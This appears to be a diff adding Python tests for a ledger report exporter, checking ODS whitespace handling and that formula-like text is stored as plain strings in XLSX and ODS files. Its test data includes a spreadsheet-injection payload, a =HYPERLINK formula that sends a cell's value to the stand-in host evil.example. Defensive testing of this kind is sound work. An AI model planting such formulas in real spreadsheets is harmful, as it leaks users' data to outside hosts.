@@ -10,6 +10,7 @@ import zipfile
 import openpyxl
 from odf.opendocument import load as load_ods
 from odf.table import TableCell, TableRow
+from odf.text import P
 
 from tenant_app.reports import html, ods, xlsx
 from tenant_app.reports.sheet import Column, ColumnKind, ReportHeader, Sheet, Subtotal
@@ -94,6 +95,35 @@ def test_ods_is_a_valid_package_that_odfpy_reads_back_as_numbers() -> None:
     assert int(rows[7][1].getAttribute("value")) == TOTAL
 
 
+def _shown(paragraph: P) -> str:
+    """The text an ODF reader shows for a text:p (ODF 1.2 part 1, 6.1.2 white-space processing):
+    runs of space, tab, CR and LF in character data collapse to one space, and a paragraph's
+    leading space goes; only <text:s/>, <text:tab/> and <text:line-break/> survive as themselves."""
+    shown = ""
+    for node in paragraph.childNodes:
+        if node.nodeType == node.TEXT_NODE:
+            collapsed = re.sub(r"[ \t\r\n]+", " ", str(node.data))
+            if not shown or shown.endswith(" "):
+                collapsed = collapsed.lstrip(" ")
+            shown += collapsed
+        elif node.qname[1] == "s":
+            shown += " " * int(node.getAttribute("c") or 1)
+        elif node.qname[1] == "tab":
+            shown += "\t"
+        elif node.qname[1] == "line-break":
+            shown += "\n"
+    return shown
+
+
+def test_ods_keeps_tabs_line_breaks_and_runs_of_spaces_that_text_p_would_collapse() -> None:
+    texts = ["a  b", "  lead", "trail ", "x\ny", "a   b  c", "plain"]
+    sheet = Sheet(_sheet().header, (Column("t", "摘要", "Text"),), [(t,) for t in texts])
+    buf = io.BytesIO()
+    ods.write(sheet, buf)
+    shown = [_shown(row[0].getElementsByType(P)[0]) for row in _ods_rows(buf)[4:]]
+    assert shown == texts
+
+
 def test_html_shows_separators_right_aligned_and_escapes_text() -> None:
     page = html.render(_sheet())
     assert "辦公費 &lt;A&amp;B&gt;" in page
@@ -139,3 +169,56 @@ def test_subtotal_rows_are_bold_in_every_format() -> None:
     cells = _ods_rows(buf)[5]
     assert cells[1].getAttribute("stylename") == "money_b"
     assert int(cells[1].getAttribute("value")) == 1_234_567
+
+
+# Text a spreadsheet would evaluate (issue 14, item 4): each comes back as the same plain text.
+HOSTILE = [
+    '=HYPERLINK("http://evil.example/x?d="&F10,"明細")',
+    "+1+1",
+    "-2+3",
+    "@SUM(A1:A2)",
+    "\t=1+1",
+    "#REF!",
+    "=1",
+]
+
+
+def _hostile_sheet() -> Sheet:
+    header = ReportHeader("=縣", "總分類帳", "Ledger", 2026, 3, PRINTED)
+    rows = [(text, -(i + 1) * 1_000, 0.25, dt.date(2026, 3, 1)) for i, text in enumerate(HOSTILE)]
+    return Sheet(header, COLUMNS, rows, ("合計", -28_000, None, None), ["=2*3"])
+
+
+def test_xlsx_writes_formula_like_text_as_plain_strings_and_numbers_as_numbers() -> None:
+    buf = io.BytesIO()
+    xlsx.write(_hostile_sheet(), buf)
+    with zipfile.ZipFile(io.BytesIO(buf.getvalue())) as zf:
+        sheet_xml = zf.read("xl/worksheets/sheet1.xml").decode("utf-8")
+    assert "<f>" not in sheet_xml and "<f " not in sheet_xml  # no formula element anywhere
+    buf.seek(0)
+    ws = openpyxl.load_workbook(buf).active
+    assert ws is not None
+    assert [c.data_type for row in ws.iter_rows() for c in row if c.value is not None].count("f") == 0
+    assert ws.cell(row=1, column=1).value == "=縣 總分類帳"
+    body = list(ws.iter_rows(min_row=5, max_row=4 + len(HOSTILE)))
+    assert [r[0].value for r in body] == HOSTILE  # the visible text is the user's, unchanged
+    assert all(r[0].data_type == "s" and r[0].quotePrefix for r in body)
+    assert [r[1].value for r in body] == [-(i + 1) * 1_000 for i in range(len(HOSTILE))]
+    assert all(r[1].data_type == "n" and r[2].data_type == "n" for r in body)
+    assert ws.cell(row=5 + len(HOSTILE), column=2).value == -28_000
+    assert ws.cell(row=6 + len(HOSTILE), column=1).value == "=2*3"
+
+
+def test_ods_writes_formula_like_text_as_string_cells() -> None:
+    buf = io.BytesIO()
+    ods.write(_hostile_sheet(), buf)
+    with zipfile.ZipFile(io.BytesIO(buf.getvalue())) as zf:
+        content = zf.read("content.xml").decode("utf-8")
+    assert "table:formula" not in content
+    rows = _ods_rows(buf)
+    body = rows[4 : 4 + len(HOSTILE)]
+    assert [c[0].getAttribute("valuetype") for c in body] == ["string"] * len(HOSTILE)
+    # The shown text is the stored text, the leading tab included (written as <text:tab/>).
+    assert [_shown(c[0].getElementsByType(P)[0]) for c in body] == HOSTILE
+    assert [int(c[1].getAttribute("value")) for c in body] == [-(i + 1) * 1_000 for i in range(len(HOSTILE))]
+    assert [c[1].getAttribute("valuetype") for c in body] == ["float"] * len(HOSTILE)
